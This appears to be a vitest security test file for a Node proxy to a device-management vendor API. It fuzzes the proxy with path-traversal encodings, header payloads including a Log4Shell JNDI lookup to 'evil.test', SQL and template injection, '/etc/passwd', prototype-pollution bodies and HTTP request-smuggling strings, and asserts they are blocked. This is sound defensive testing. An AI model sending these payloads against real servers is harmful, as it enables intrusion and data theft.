import { createServer } from 'node:http';
import { connect } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { operations } from '../../src/api/index.js';
import { createNodeListener, limitTimes } from '../../src/proxy/node.js';
import { approve, ask, IMEI, PORTAL, proxyBefore, succeed, TOKEN } from './support.js';

/** What may reach the vendor, read from the table itself. */
const legal = operations.map(({ method, path }) => ({
  method,
  pattern: new RegExp(`^/kcs/v1\\.1/kg${path.replace(/\{\w+\}/g, '[\\w-]{1,64}')}$`),
}));
const isLegal = ({ method, url }: Request): boolean => {
  const { origin, pathname } = new URL(url);
  return (
    origin === 'https://vendor.test' &&
    legal.some((one) => one.method === method && one.pattern.test(pathname))
  );
};

const bodies: Record<string, unknown> = {
  getTransaction: { transactionId: 'ABC123' },
  uploadDevices: { deviceList: [{ deviceUid: IMEI }] },
  listDevices: {},
  approveDevice: { deviceUid: IMEI },
  blinkDevice: { objectId: 'o', interval: 60, message: 'Pay', tel: '1' },
};
const keyed = { 'idempotency-key': 'k'.repeat(32) };
const plain = (path: string): string => path.replace('{uploadId}', 'up-1');
const legalRequest = ({ name, method, path }: (typeof operations)[number], headers: HeadersInit = {}) => {
  const all = new Headers(headers);
  all.set('idempotency-key', crypto.randomUUID());
  return ask(method, plain(path), bodies[name], all);
};

describe('paths', () => {
  it('of three thousand kinds reach the vendor only where the table has them', async () => {
    const { handler, arrived } = proxyBefore();
    const steps = [
      '..',
      '.',
      '%2e%2e',
      '%2E.',
      '.%2e',
      '%252e%252e',
      '..;',
      '..%2f',
      '..%5c',
      '%2f',
      '%5c',
      '%00',
      '%0a',
      '%0d%0a',
      '%09',
      '%20',
      ';a=1',
      '//',
      '\\',
      '@evil.test',
      ':443',
      '%23',
      '%3f',
      '*',
      '~',
      '%c0%ae%c0%ae',
      '%e0%80%ae',
      '%u002e',
      '\u2025',
      '\uff0e\uff0e',
      '{uploadId}',
      ':uploadId',
      'x'.repeat(65),
      '-',
      'http://evil.test',
      '//evil.test/kcs',
    ];
    const stems = ['', '/devices', ...new Set(operations.map(({ path }) => plain(path)))];
    const tails = [
      '',
      '/',
      '/devices/lock',
      '/lock',
      '/unlock',
      '?pageNum=0',
      '#x',
      '/devices/list',
      '.json',
    ];
    let tried = 0;
    for (const stem of stems)
      for (const step of steps)
        for (const tail of tails)
          for (const method of ['GET', 'POST'] as const) {
            const path = `${stem}/${step}${tail}`;
            await handler(ask(method, path, method === 'POST' ? {} : undefined, keyed));
            tried += 1;
          }
    expect(tried).toBeGreaterThan(3000);
    expect(arrived.filter((request) => !isLegal(request)).map(({ url }) => url)).toEqual([]);
    // Some of them the URL standard itself resolves to a path of ours: the corpus does get through where it may.
    expect(arrived.length).toBeGreaterThan(0);
    expect(arrived.length).toBeLessThan(tried / 4);
  }, 120_000);

  it('of every operation are served with its method and with no other', async () => {
    const methods = [
      'GET',
      'POST',
      'HEAD',
      'PUT',
      'PATCH',
      'DELETE',
      'OPTIONS',
      'PROPFIND',
      'QUERY',
      'LOCK',
      'UNLOCK',
      'MKCOL',
      'COPY',
      'MOVE',
      'SEARCH',
      'PURGE',
      'LINK',
      'REPORT',
      'patch',
      'Post',
    ];
    const { handler, arrived } = proxyBefore();
    let refused = 0;
    for (const path of new Set(operations.map((operation) => operation.path)))
      for (const method of methods) {
        const operation = operations.find((one) => one.path === path && one.method === method);
        if (operation) continue;
        // The platform itself writes `Post` as POST, which some of these paths do serve.
        if (
          operations.some((one) => one.path === path && one.method === new Request(PORTAL, { method }).method)
        )
          continue;
        const response = await handler(
          new Request(`${PORTAL}/api/knox-guard${plain(path)}`, {
            method,
            headers: { 'x-kg-request': '1', ...keyed },
          }),
        );
        const allowed = operations.filter((one) => one.path === path).map((one) => one.method);
        expect([method, path, response.status, response.headers.get('allow')]).toEqual([
          method,
          path,
          405,
          allowed.join(', '),
        ]);
        refused += 1;
      }
    expect(refused).toBeGreaterThan(100);
    expect(arrived).toEqual([]);
    for (const operation of operations)
      expect((await handler(legalRequest(operation))).status, operation.name).toBe(200);
    expect(arrived).toHaveLength(operations.length);
    expect(arrived.every(isLegal)).toBe(true);
  });
});

describe('headers', () => {
  it('of a thousand kinds change nothing of what the vendor sees', async () => {
    const names = [
      'x-knox-apitoken',
      'X_Knox_ApiToken',
      'x-knox-transactionId',
      'cookie',
      'cookie2',
      'authorization',
      'proxy-authorization',
      'connection',
      'keep-alive',
      'te',
      'trailer',
      'upgrade',
      'expect',
      'forwarded',
      'x-forwarded-for',
      'x_forwarded_for',
      'x-forwarded-host',
      'x-forwarded-proto',
      'x-forwarded-uri',
      'x-original-url',
      'x-rewrite-url',
      'x-real-ip',
      'x-http-method',
      'x-http-method-override',
      'x-method-override',
      'host',
      'via',
      'range',
      'if-match',
      'if-none-match',
      'accept',
      'accept-encoding',
      'accept-language',
      'referer',
      'user-agent',
      'x-csrf-token',
      'x-kg-environment',
      'x-kg-outcome',
      'x-kg-priority',
      'x-kg-transaction-id',
      'traceparent',
      'content-language',
      'content-location',
      'x-amzn-trace-id',
      'cf-connecting-ip',
      'true-client-ip',
      'x-tenant',
      'priority',
      'dpop',
    ];
    const values = [
      TOKEN,
      'DELETE',
      'https://evil.test/',
      '1',
      '*',
      'poll',
      'close, x-knox-apitoken',
      'a'.repeat(8000),
      'for="[::1]";host=evil.test',
      'bytes=0-1',
      '"1"',
      'session=1; other=2',
      "' OR 1=1 --",
      '{{7*7}}',
      '${jndi:ldap://evil.test}',
      '\u00e9\u00ff',
      '../../etc/passwd',
      '<script>',
      'null',
      '-1',
      '0',
      'true',
    ];
    const { handler, arrived } = proxyBefore();
    let tried = 0;
    for (const name of names)
      for (const value of values) {
        const operation = operations[tried % operations.length]!;
        const headers = new Headers();
        try {
          headers.set(name, value);
        } catch {
          continue;
        }
        expect((await handler(legalRequest(operation, headers))).status, `${name}: ${value}`).toBe(200);
        tried += 1;
      }
    expect(tried).toBeGreaterThan(1000);
    expect(arrived).toHaveLength(tried);
    for (const request of arrived) {
      const sent = Object.fromEntries(request.headers);
      const expected = [
        'accept',
        ...(request.method === 'POST' ? ['content-type'] : []),
        'x-knox-apitoken',
        'x-knox-transactionid',
      ];
      expect(Object.keys(sent).sort()).toEqual(expected);
      expect([sent['accept'], sent['x-knox-apitoken']]).toEqual(['application/json', TOKEN]);
      expect(sent['x-knox-transactionid']).toMatch(/^[A-Z2-7]{32}$/);
    }
    expect(arrived.every(isLegal)).toBe(true);
  }, 120_000);
});

describe('bodies', () => {
  it.each(operations.filter(({ method }) => method === 'POST'))(
    'of $name that two readers could read differently, that are too deep or that are none, send nothing',
    async (operation) => {
      const { handler, arrived } = proxyBefore();
      const good = JSON.stringify(bodies[operation.name]);
      const first = Object.keys(bodies[operation.name] as object)[0] ?? 'search';
      const bad = [
        `{"${first}":1,${good.slice(1)}`.replace(',}', `,"${first}":2}`),
        good.replace(/}$/, `${good === '{}' ? '' : ','}"constructor":{"prototype":{}}}`),
        `${good}${good}`,
        `//x\n${good}`,
        `${good};`,
        `[${good}]`,
        good.replace('{', "{'a':1,"),
        good.replace('{', '{"a":NaN,'),
        good.replace('{', '{"a":Infinity,'),
        `${'{"a":'.repeat(50)}1${'}'.repeat(50)}`,
        '['.repeat(200_000),
        `"${'x'.repeat(3_000_000)}"`,
        'null',
        '1',
        '',
      ];
      for (const body of bad) {
        const response = await handler(
          ask('POST', operation.path, body, { ...keyed, 'content-type': 'application/json' }),
        );
        expect([400, 413, 422], body.slice(0, 60)).toContain(response.status);
      }
      expect(arrived).toEqual([]);

      // A name that would change what other objects inherit is no field: it is left out of what is sent.
      const tricky = good.replace(/}$/, `${good === '{}' ? '' : ','}"__proto__":{"polluted":1}}`);
      await handler(ask('POST', operation.path, tricky, { ...keyed, 'content-type': 'application/json' }));
      for (const request of arrived) expect(await request.text()).toBe(good);
      expect('polluted' in {}).toBe(false);
    },
  );
});

describe('who may do what to which device', () => {
  it('is asked for every operation of the table, with the device in hand, and a no sends nothing', async () => {
    const seen = new Map<string, unknown>();
    const { handler, arrived } = proxyBefore(undefined, {
      permit: (_, operation, body) => {
        seen.set(operation.name, body);
        return false;
      },
    });
    for (const operation of operations) expect((await handler(legalRequest(operation))).status).toBe(403);
    expect([...seen.keys()].sort()).toEqual(operations.map(({ name }) => name).sort());
    expect(seen.get('approveDevice')).toEqual({ deviceUid: IMEI });
    expect(seen.get('getUpload')).toEqual({ uploadId: 'up-1' });
    expect(arrived).toEqual([]);
  });

  it('holds for the one foreign device in a list of many: nothing of it is sent', async () => {
    const { handler, arrived } = proxyBefore(undefined, {
      permit: (_, __, body) =>
        (body['deviceList'] as { deviceUid: string }[]).every(({ deviceUid }) => deviceUid.startsWith('35')),
    });
    const upload = (last: string) =>
      ask(
        'POST',
        '/devices/uploads',
        { deviceList: [{ deviceUid: IMEI }, { deviceUid: last }] },
        { 'idempotency-key': crypto.randomUUID() },
      );
    expect((await handler(upload('990000862471854'))).status).toBe(403);
    expect(arrived).toHaveLength(0);
    expect((await handler(upload('350595220006493'))).status).toBe(200);
  });
});

describe('the audit record', () => {
  it('of each command is written before its call leaves, and names the call; reads have none', async () => {
    const order: string[] = [];
    const { handler } = proxyBefore(
      (request) => {
        order.push(`sent ${request.headers.get('x-knox-transactionId')}`);
        return succeed();
      },
      {
        audit: async (record) => {
          await new Promise((resolve) => setTimeout(resolve, 5));
          order.push(`written ${record.transactionId}`);
        },
      },
    );
    const commands = operations.filter(({ kind }) => kind === 'command');
    for (const operation of commands) await handler(legalRequest(operation));
    const written = order.filter((entry) => entry.startsWith('written')).map((entry) => entry.slice(8));
    expect(order).toEqual(written.flatMap((id) => [`written ${id}`, `sent ${id}`]));
    expect(new Set(written).size).toBe(commands.length);
    for (const operation of operations.filter(({ kind }) => kind === 'read'))
      await handler(legalRequest(operation));
    expect(order.filter((entry) => entry.startsWith('written'))).toHaveLength(commands.length);
  });
});

const open: ReturnType<typeof createServer>[] = [];
afterEach(async () => {
  for (const server of open.splice(0)) {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  }
});

describe('over a raw socket', () => {
  it('smuggled, cut and malformed requests send nothing that they should not', async () => {
    const { handler, arrived } = proxyBefore();
    const server = limitTimes(createServer(createNodeListener(handler)));
    open.push(server);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as { port: number };
    const say = (text: string): Promise<string> =>
      new Promise((resolve) => {
        let heard = '';
        const socket = connect(port, '127.0.0.1', () => socket.write(text));
        const timer = setTimeout(() => socket.destroy(), 250);
        socket.on('data', (data) => (heard += data.toString()));
        socket.on('error', () => undefined);
        socket.on('close', () => {
          clearTimeout(timer);
          resolve(heard);
        });
      });
    const own = 'X-KG-Request: 1\r\nSec-Fetch-Site: same-origin\r\n';
    const host = `Host: 127.0.0.1:${port}\r\n`;
    const inner = `POST /api/knox-guard/devices/approve HTTP/1.1\r\n${host}Content-Type: application/json\r\nContent-Length: ${JSON.stringify({ deviceUid: IMEI }).length}\r\nIdempotency-Key: ${'s'.repeat(32)}\r\n\r\n${JSON.stringify({ deviceUid: IMEI })}`;
    const list = (headers: string, body: string): string =>
      `POST /api/knox-guard/devices/list HTTP/1.1\r\n${host}${own}Content-Type: application/json\r\n${headers}\r\n${body}`;
    const chunked = 'Transfer-Encoding: chunked\r\n';
    const smuggling = [
      list(`Content-Length: 2\r\n${chunked}`, `0\r\n\r\n${inner}`),
      list(`${chunked}Content-Length: 6\r\n`, `0\r\n\r\n${inner}`),
      list('Transfer-Encoding: xchunked\r\n', `0\r\n\r\n${inner}`),
      list('Transfer-Encoding : chunked\r\n', `0\r\n\r\n${inner}`),
      list('Transfer-Encoding: chunked, identity\r\n', `0\r\n\r\n${inner}`),
      list('Transfer-Encoding:\x0bchunked\r\n', `0\r\n\r\n${inner}`),
      list('Content-Length: 2\r\nContent-Length: 40\r\n', `{}${inner}`),
      list('Content-Length: +2\r\n', `{}${inner}`),
      list('Content-Length: 0x2\r\n', `{}${inner}`),
      list('Content-Length: 2 2\r\n', `{}${inner}`),
      list('X: a\r\n b\r\nContent-Length: 2,\r\n', `{}${inner}`),
      list(chunked, `zz\r\n{}\r\n0\r\n\r\n`),
      list(chunked, `fffffffffffffffff\r\n{}\r\n0\r\n\r\n`),
      list('Content-Length: 100000\r\n', '{"search":"cut'),
      list('Content-Length: -1\r\n', '{}'),
      list('X\x00Y: 1\r\nContent-Length: 2\r\n', '{}'),
      list(`X: ${'a'.repeat(100_000)}\r\nContent-Length: 2\r\n`, '{}'),
      `GET /api/knox-guard/devices/list\r\n${inner}`,
      `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n`,
      `\x16\x03\x01\x02\x00\x01\x00\x01`,
      'GET ' + '/a'.repeat(50_000) + ' HTTP/1.1\r\n\r\n',
    ];
    for (const text of smuggling) {
      const heard = await say(text);
      expect(heard, text.slice(0, 90)).toMatch(/^$|^HTTP\/1\.1 4\d\d/);
    }
    expect(arrived).toEqual([]);

    // What a second request within the first connection needs, it needs too: pipelined behind a good one it has no header of ours.
    const pipelined = await say(list('Content-Length: 2\r\n', `{}${inner}`));
    expect(pipelined.match(/HTTP\/1\.1 \d+/g)).toEqual(['HTTP/1.1 200', 'HTTP/1.1 403']);
    expect(arrived.map(({ url }) => url.split('/').at(-1))).toEqual(['list']);
  }, 60_000);

  it('fifty slow senders do not keep a quick one waiting', async () => {
    const { handler } = proxyBefore();
    const server = limitTimes(createServer(createNodeListener(handler)));
    open.push(server);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as { port: number };
    const sockets = Array.from({ length: 50 }, () => {
      const socket = connect(port, '127.0.0.1');
      socket.on('error', () => undefined);
      socket.write(
        `POST /api/knox-guard/devices/list HTTP/1.1\r\nHost: a\r\nX-KG-Request: 1\r\nContent-Type: application/json\r\nContent-Length: 500\r\n\r\n{`,
      );
      return socket;
    });
    const quick = approve('quick');
    const response = await fetch(quick.url.replace(PORTAL, `http://127.0.0.1:${port}`), {
      method: 'POST',
      headers: quick.headers,
      body: await quick.text(),
    });
    expect(response.status).toBe(200);
    for (const socket of sockets) socket.destroy();
  });
});
